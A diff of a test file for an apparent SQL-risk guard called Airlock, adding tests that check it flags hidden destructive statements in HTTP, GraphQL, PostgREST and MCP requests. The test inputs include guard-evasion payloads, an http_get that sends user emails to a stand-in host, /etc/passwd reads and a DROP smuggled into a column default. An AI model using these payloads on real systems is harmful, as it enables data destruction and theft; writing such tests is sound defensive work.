@@ -304,6 +304,63 @@ t.test('a statement hidden from the other grammars by BigQuery\'s triple-quoted 
   }
 });
 
+t.test('a statement hidden from SQLite by PostgreSQL\'s nested comments, behind a construct PostgreSQL\'s grammar refuses, is held', async (t) => {
+  // Ninth pass: `SELECT 1 /* /* */ -- */ , [x] ; DROP TABLE t` was a medium SELECT on an endpoint
+  // of unknown dialect. PostgreSQL's grammar refuses `[x]`, so SQLite's reading (one SELECT: its
+  // comment ends at the first `*/`, the rest of the line is a `--` comment) stood alone; DuckDB
+  // (`[x]` a list) and SQL Server (`[x]` a name), whose comments nest as PostgreSQL's do, run the DROP.
+  const comments = fc.constantFrom('/* /* */ -- */', '/* a /* b */ -- c */', '/*/* */ -- */', '/* /* /* */ */ -- */', '/* /* */ # */');
+  const refused = fc.constantFrom((x: string) => `[${x}]`, () => '[1, 2]', () => "{'a': 1}", (x: string) => `[${x}].[${x}]`);
+  const tails = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE TABLE ${x}`);
+  await fc.assert(
+    fc.asyncProperty(comments, refused, tails, ident, async (c, r, d, x) => {
+      const sql = `SELECT 1 ${c} , ${r(x)} ; ${d(x)}`;
+      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${sql}: ${decision.action} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 16), ...seed },
+  );
+  // Controls: SQLite's own names in brackets beside ordinary comments stay ordinary reads.
+  for (const sql of ['SELECT * FROM [my table] -- comment\n WHERE [a b] = 1 /* c */', "SELECT [a] FROM t /* x */ WHERE b = 'it''s' -- done"]) {
+    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+    t.not(decision.approval?.risk, 'critical', sql);
+  }
+});
+
+t.test('a call hidden from the other grammars by ClickHouse\'s own lexing is held on an endpoint of unknown dialect', async (t) => {
+  // Ninth pass: ClickHouse reads ‘…’ as a string and “…” as an identifier, skips Unicode blanks
+  // between words and takes `$tag$…$tag$` with any tag; PostgreSQL, SQLite and MySQL read those
+  // characters as letters of a name. `SELECT ‘'’ FROM url(…) -- '` was an allowed read (a name cast
+  // from a string), `SELECT a FROM url(…)` with U+2003 for the blanks a medium write (a call of a
+  // function named `a FROM url`).
+  const calls = fc.constantFrom(`url ( 'https://x.example/?d=1' , CSV , 'a String' )`, `file ( '/etc/passwd' , LineAsString )`, `s3 ( 'https://b.example/k' , 'CSV' )`);
+  const blanks = fc.constantFrom('\u00a0', '\u2003', '\u2009', '\u200b', '\u3000', '\ufeff', '\u2028');
+  const hides = fc.constantFrom(
+    (call: string) => `SELECT \u2018'\u2019 FROM ${call.replaceAll("'", '\u2018').replaceAll('\u2018 ', '\u2019 ')} -- '`,
+    (call: string) => `SELECT \u201c'\u201d FROM ${call.replaceAll("'", '$$')} -- '`,
+    (call: string, b: string) => `SELECT a${b}FROM${b}${call}`,
+    (call: string, b: string) => `SELECT count ( * )${b}FROM${b}${call}`,
+  );
+  const shapes = fc.constantFrom(
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, type: 'text/plain', body: '' }),
+    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}:8123/`, type: 'text/plain', body: sql }),
+    (sql: string) => ({ method: 'POST', url: GENERIC, type: 'application/json', body: JSON.stringify({ sql }) }),
+  );
+  await fc.assert(
+    fc.asyncProperty(shapes, hides, calls, blanks, async (shape, hide, call, b) => {
+      const r = shape(hide(call, b));
+      const { description, decision } = await decide({ method: r.method, url: r.url, headers: [['Content-Type', r.type]], body: r.body });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${r.method} ${r.url} ${r.body}: ${decision.action} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 24), ...seed },
+  );
+  // Controls: typographic quotes and Unicode blanks inside strings, and a string in typographic quotes, stay reads.
+  for (const sql of ["SELECT name FROM users WHERE note = 'caf\u00e9 \u2018quoted\u2019\u00a0x'", 'SELECT \u2018it\u2019 AS a FROM t']) {
+    const { decision } = await decide({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '' });
+    t.equal(decision.action, 'allow', sql);
+  }
+});
+
 t.test('ClickHouse\'s HTTP interface: the SQL of the query parameter and the body is read', async (t) => {
   // A POST to `/` runs `?query=` followed by the body (or the body alone): no path tells one
   // statement from another, so without reading it an INSERT and a DROP TABLE were one operation.
@@ -501,6 +558,10 @@ t.test('SQL an MCP tool takes under any SQL-carrying argument, or in a list of s
     (d: string) => ({ name: 'batch', arguments: { statements: [{ sql: 'SELECT 1' }, { sql: d }] } }),
     (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: d, sql: 'weekly report' } }),
     (d: string) => ({ name: 'execute_sql', arguments: { project_id: 'p', query: 'all customers', params: { sql: d } } }),
+    // Ninth pass: two objects down or in a list under another name was not read (high, not critical).
+    (d: string) => ({ name: 'run', arguments: { input: { db: { sql: d } } } }),
+    (d: string) => ({ name: 'run', arguments: { steps: [{ kind: 'sql', options: { query: d } }] } }),
+    (d: string) => ({ name: 'run', arguments: { a: { b: { c: { d: { statements: [d] } } } } } }),
   );
   const destructive = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE ${x}`, (x: string) => `UPDATE ${x} SET a = 1`);
   await fc.assert(
@@ -546,6 +607,34 @@ t.test('PostgREST RPC calls that run their argument are read as PostgreSQL on an
   t.not(read.decision.approval?.risk, 'critical', 'a read stays ordinary');
   const search = await decide({ url: urls[3]!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ term: 'drop table tennis' }) });
   t.not(search.decision.approval?.risk, 'critical', 'an argument not named for SQL is not SQL');
+});
+
+t.test('PostgREST RPC called with GET or HEAD: the SQL in its URL arguments is read', async (t) => {
+  // Ninth pass: `GET …/rpc/exec_sql?query=SELECT dblink_exec('…', 'DROP TABLE users')` was an
+  // allowed read. PostgREST takes a GET's arguments from the URL and runs it READ ONLY, which stops
+  // neither dblink_exec (a new connection, its own transaction), http_get (rows sent out) nor
+  // pg_terminate_backend.
+  const urls = [`https://${SQL_HOST}/rest/v1/rpc/exec_sql`, `https://${SQL_HOST}/rpc/run_query`, 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec'];
+  const names = fc.constantFrom('query', 'sql', 'sql_text', 'Stmt', 'sqlQuery', 'statement');
+  const bad = fc.constantFrom(
+    (x: string) => `SELECT dblink_exec ( 'dbname=postgres' , 'DROP TABLE ${x}' )`,
+    (x: string) => `SELECT http_get ( 'https://x.example/?d=' || ( SELECT string_agg ( email , ',' ) FROM ${x} ) )`,
+    () => `SELECT pg_terminate_backend ( pid ) FROM pg_stat_activity`,
+    (x: string) => `SELECT 1 ; DROP TABLE ${x}`,
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...urls), fc.constantFrom('GET', 'HEAD'), names, bad, ident, async (url, method, name, d, x) => {
+      const full = `${url}?select=*&${name}=${encodeURIComponent(d(x))}`;
+      const { description, decision } = await decide({ method, url: full, body: '' });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${full}: ${decision.action} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 16), ...seed },
+  );
+  // Controls: a search argument, a filter and a read stay allowed GETs.
+  for (const q of ['query=red%20shoes', 'query=eq.5&select=*', `query=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`]) {
+    const { decision } = await decide({ method: 'GET', url: `${urls[2]}?${q}`, body: '' });
+    t.equal(decision.action, 'allow', `GET ?${q}`);
+  }
 });
 
 t.test('an operator nothing proves built in is a call of a function someone created, not a read', async (t) => {
@@ -627,6 +716,9 @@ t.test('SQL in the URL is read, whatever the method: `?sql=`, `?query=` to an SQ
     (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/?database=db&query=${encodeURIComponent(sql)}`, body: '' }),
     // The parameter, a line feed, then the body: one statement to ClickHouse.
     (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/?query=${encodeURIComponent(sql.split(' ')[0]!)}`, body: sql.split(' ').slice(1).join(' ') }),
+    // Ninth pass: InfluxDB's `q` (`POST /query?q=…`, a form's `q`) on an SQL path was not read.
+    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/query?q=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/query?db=x&q=${encodeURIComponent(sql)}`, body: '' }),
   );
   const bad = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `TRUNCATE TABLE ${x}`, (x: string) => `SELECT * FROM url ( 'https://x.example/?d=' , CSV , 'a String' ) AS ${x}`);
   await fc.assert(
@@ -638,12 +730,156 @@ t.test('SQL in the URL is read, whatever the method: `?sql=`, `?query=` to an SQ
     { numRuns: runs, ...seed },
   );
   // Controls: reads in a GET stay allowed, ClickHouse-only reads are not failed closed, a search stays a search.
-  for (const url of [`https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`, `https://${SQL_HOST}:8123/?query=${encodeURIComponent('SHOW TABLES')}`, `https://${SQL_HOST}/search?query=${encodeURIComponent('drop table tennis')}`]) {
+  for (const url of [`https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`, `https://${SQL_HOST}:8123/?query=${encodeURIComponent('SHOW TABLES')}`, `https://${SQL_HOST}/search?query=${encodeURIComponent('drop table tennis')}`, `https://${SQL_HOST}/query?q=${encodeURIComponent('red shoes')}`]) {
     const { decision } = await decide({ method: 'GET', url, body: '' });
     t.equal(decision.action, 'allow', `GET ${url}`);
   }
   const rows = await decide({ url: `https://${SQL_HOST}/?query=${encodeURIComponent('INSERT INTO logs FORMAT CSV')}`, headers: [['Content-Type', 'text/plain']], body: '1,2\n' });
   t.not(rows.decision.approval?.risk, 'critical', 'rows after INSERT … FORMAT CSV');
+});
+
+t.test('SQL unread for one of Airlock\'s limits is SQL held at the worst, in every place that carries SQL only sometimes', async (t) => {
+  // Ninth pass: `GET /report?sql=DROP TABLE users; -- ` and 6,000 dashes (5.9 KB, past the lexing
+  // cost bound) was an allowed GET: text unread for a limit counted as "no statements", so not SQL.
+  // Also `?query=` to an SQL path, ClickHouse, `{query}` to any path, a GraphQL `executeSql(sql:)`
+  // and a PostgREST RPC called with GET.
+  const pads = fc.constantFrom(' -- ' + '-'.repeat(6_000), ' /* ' + '+'.repeat(6_000) + ' */', ' -- ' + '*/'.repeat(3_000));
+  const shapes = fc.constantFrom(
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/report?sql=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/query?query=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'GET', url: `https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec_sql?query=${encodeURIComponent(sql)}`, body: '' }),
+    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/api/v1/run`, body: JSON.stringify({ query: sql }) }),
+    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}/graphql`, body: JSON.stringify({ query: 'mutation($s: String!) { executeSql(sql: $s) { ok } }', variables: { s: sql } }) }),
+  );
+  const bad = fc.constantFrom((x: string) => `DROP TABLE ${x} ;`, (x: string) => `SELECT dblink_exec ( '' , 'DROP TABLE ${x}' ) ;`);
+  await fc.assert(
+    fc.asyncProperty(shapes, bad, pads, ident, async (shape, d, pad, x) => {
+      const r = shape(d(x) + pad);
+      const { description, decision } = await decide({ method: r.method, url: r.url, headers: [['Content-Type', 'application/json']], body: r.body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url.slice(0, 120)}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
+    }),
+    { numRuns: Math.min(runs, 12), ...seed },
+  );
+  // Controls: a search phrase stays a search, with or without a long run of dashes.
+  for (const q of ['red shoes', 'red shoes -- ' + '-'.repeat(40)]) {
+    const { decision } = await decide({ method: 'GET', url: `https://${SQL_HOST}/search?query=${encodeURIComponent(q)}`, body: '' });
+    t.equal(decision.action, 'allow', q.slice(0, 20));
+  }
+});
+
+t.test('a WHERE only SQLite\'s sample run judges is held when SQLite cannot read the text for one of Airlock\'s limits', async (t) => {
+  // Ninth pass: `DELETE FROM users WHERE id > 0 OR id <= 0` is critical on Supabase and Neon (SQLite's
+  // sample run), but behind a statement SQLite is not made to read (a chain of CTEs expanding past
+  // 128 copies, 300 nested parentheses) PostgreSQL's reading stood alone: a medium write.
+  const prefixes = [
+    'WITH ' + Array.from({ length: 9 }, (_, i) => `c${i} AS (SELECT x FROM c${i + 1} UNION ALL SELECT x FROM c${i + 1})`).join(', ') + ', c9 AS (SELECT 1 AS x) SELECT count(*) FROM c0; ',
+    'SELECT ' + '('.repeat(300) + '1' + ')'.repeat(300) + '; ',
+  ];
+  const wheres = fc.constantFrom((c: string) => `${c} > 0 OR ${c} <= 0`, (c: string) => `NOT (${c} = 1 AND ${c} = 2)`, (c: string) => `${c} ~~ '%'`, (c: string) => `${c} LIKE '%' ESCAPE '!'`);
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(SUPABASE, NEON), fc.constantFrom(...prefixes), wheres, fc.constantFrom('DELETE FROM', 'UPDATE'), ident, ident, async (url, pre, w, verb, x, c) => {
+      const stmt = verb === 'UPDATE' ? `UPDATE ${x} SET ${c} = 1 WHERE ${w(c)}` : `DELETE FROM ${x} WHERE ${w(c)}`;
+      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: pre + stmt }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${stmt} to ${url}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
+    }),
+    { numRuns: Math.min(runs, 8), ...seed },
+  );
+  const narrow = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'SELECT 1; DELETE FROM users WHERE id = 5' }) });
+  t.not(narrow.decision.approval?.risk, 'critical', 'a narrow DELETE stays a write');
+});
+
+t.test('a WHERE only SQLite\'s sample run judges is judged statement by statement beside PostgreSQL\'s own syntax', async (t) => {
+  // Ninth pass: `DELETE FROM users WHERE id > 0 OR id <= 0; SELECT 1::int` to Supabase or Neon was a
+  // medium write: SQLite refused the whole text (`::`), so its sample run was dropped and
+  // PostgreSQL's reading stood alone; likewise `RETURNING id::text`, `DELETE FROM ONLY`, `USING`.
+  const wheres = fc.constantFrom((c: string) => `${c} > 0 OR ${c} <= 0`, (c: string) => `NOT (${c} = 1 AND ${c} = 2)`, (c: string) => `${c}::bigint > -1e18`, (c: string) => `${c} = (SELECT ${c})`);
+  const wraps = fc.constantFrom(
+    (d: string) => `${d}; SELECT 1::int`,
+    (d: string) => `SELECT now()::date; ${d}`,
+    (d: string) => `${d} RETURNING id::text`,
+    (d: string) => d.replace('DELETE FROM ', 'DELETE FROM ONLY ').replace(/^UPDATE /, 'UPDATE ONLY '),
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(SUPABASE, NEON), wheres, wraps, fc.constantFrom('DELETE', 'UPDATE'), ident, ident, async (url, w, wrap, verb, x, c) => {
+      const sql = wrap(verb === 'UPDATE' ? `UPDATE ${x} SET ${c} = 1 WHERE ${w(c)}` : `DELETE FROM ${x} WHERE ${w(c)}`);
+      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${url}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // Controls: WHERE clauses PostgreSQL proves narrow stay writes beside its own syntax.
+  for (const sql of ['DELETE FROM users WHERE id = $1::uuid', "UPDATE users SET name = 'x' WHERE id = 5 RETURNING id::text", 'DELETE FROM ONLY users WHERE id IN (1, 2, 3); SELECT 1::int', "DELETE FROM users WHERE name ~ '^a' RETURNING id::text"]) {
+    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
+    t.not(decision.approval?.risk, 'critical', sql);
+  }
+});
+
+t.test('on D1, a WHERE only PostgreSQL\'s reading judges is judged statement by statement beside SQLite\'s own syntax', async (t) => {
+  // Ninth pass: `DELETE FROM users WHERE id = id + 0; SELECT 1 FROM [t]` to D1 was a medium write:
+  // PostgreSQL refused the whole text (`[t]`), so its reading of the WHERE was dropped.
+  const wheres = fc.constantFrom((c: string) => `${c} = ${c} + 0`, (c: string) => `${c} IS NOT NULL`, (c: string) => `${c} BETWEEN ${c} - 1 AND ${c} + 1`, (c: string) => `lower(${c}) = lower(${c})`);
+  const wraps = fc.constantFrom((d: string) => `${d}; SELECT 1 FROM [t]`, (d: string) => `SELECT \`a\` FROM t; ${d}`, (d: string) => `${d} RETURNING [id]`);
+  await fc.assert(
+    fc.asyncProperty(wheres, wraps, fc.constantFrom('DELETE', 'UPDATE'), ident, ident, async (w, wrap, verb, x, c) => {
+      const sql = wrap(verb === 'UPDATE' ? `UPDATE ${x} SET ${c} = 1 WHERE ${w(c)}` : `DELETE FROM ${x} WHERE ${w(c)}`);
+      const { description, decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  for (const sql of ['DELETE FROM [users] WHERE id = 5; SELECT 1 FROM [t]', 'delete from `users` where `users`.`id` = ?', "UPDATE users SET a = 1 WHERE name = 'x' RETURNING [id]"]) {
+    const { decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql, params: [1] }) });
+    t.not(decision.approval?.risk, 'critical', sql);
+  }
+});
+
+t.test('the SQL a pg-meta column change writes into its DDL as it stands is read', async (t) => {
+  // Ninth pass: `POST /pg/columns {default_value: "1; DROP TABLE users", default_value_format:
+  // "expression"}` was a medium write: pg-meta writes `DEFAULT ${default_value}` and
+  // `CHECK (${check})` into its ALTER TABLE as they stand, so the DROP runs (and an expression such
+  // as `pg_read_file(…)` runs on every later INSERT).
+  const cols = 'https://abcdefghijklmnopqrst.supabase.co/pg/columns';
+  const bodies = fc.constantFrom(
+    (x: string) => ({ table_id: 1, name: 'c', type: 'text', default_value: `1; DROP TABLE ${x}`, default_value_format: 'expression' }),
+    () => ({ table_id: 1, name: 'c', type: 'text', default_value: "pg_read_file('/etc/passwd')", default_value_format: 'expression' }),
+    (x: string) => ({ table_id: 1, name: 'c', type: 'int', check: `c > 0) ; DELETE FROM ${x}; SELECT (1` }),
+    (x: string) => ({ default_value: `dblink_exec('', 'DROP TABLE ${x}')`, default_value_format: 'expression' }),
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(['POST', cols], ['PATCH', `${cols}/16384.2`]), bodies, ident, async ([method, url], b, x) => {
+      const body = JSON.stringify(b(x));
+      const { description, decision } = await decide({ method, url, headers: [['Content-Type', 'application/json']], body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${method} ${body}: ${decision.action} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  for (const b of [{ default_value: 'now()', default_value_format: 'expression' }, { default_value: '1; DROP TABLE users' }, { check: 'c > 0' }]) {
+    const { decision } = await decide({ url: cols, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ table_id: 1, name: 'c', type: 'text', ...b }) });
+    t.not(decision.approval?.risk, 'critical', JSON.stringify(b));
+  }
+});
+
+t.test('SQL a GraphQL mutation takes at any depth of its arguments is read', async (t) => {
+  // Ninth pass: `run(input: {db: {sql: "DROP TABLE users"}})`, `run(steps: [{sql: …}])` and
+  // `run(sqls: […])` on a GraphQL endpoint no module owns were medium writes: only a string at the
+  // top or one object down was read.
+  const shapes = fc.constantFrom(
+    (d: string) => ({ query: 'mutation($s: String!) { run(input: {db: {sql: $s}}) { ok } }', variables: { s: d } }),
+    (d: string) => ({ query: 'mutation($v: [StepInput!]!) { run(steps: $v) { ok } }', variables: { v: [{ kind: 'sql', sql: 'SELECT 1' }, { kind: 'sql', sql: d }] } }),
+    (d: string) => ({ query: 'mutation($v: [String!]!) { run(sqls: $v) { ok } }', variables: { v: ['SELECT 1', d] } }),
+    (d: string) => ({ query: 'mutation($v: JSON!) { run(a: $v) { ok } }', variables: { v: { b: { c: { d: { statement: d } } } } } }),
+  );
+  await fc.assert(
+    fc.asyncProperty(shapes, fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`), ident, async (shape, d, x) => {
+      const body = JSON.stringify(shape(d(x)));
+      const { description, decision } = await decide({ url: `https://${SQL_HOST}/graphql`, headers: [['Content-Type', 'application/json']], body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  const search = await decide({ url: `https://${SQL_HOST}/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'mutation { search(filter: {where: {query: "red shoes"}}) { ok } }' }) });
+  t.not(search.decision.approval?.risk, 'critical', 'a search phrase deep in the arguments is not SQL');
 });
 
 t.test('two-phase commit and MySQL\'s statements PostgreSQL reads as settings are not reads', async (t) => {
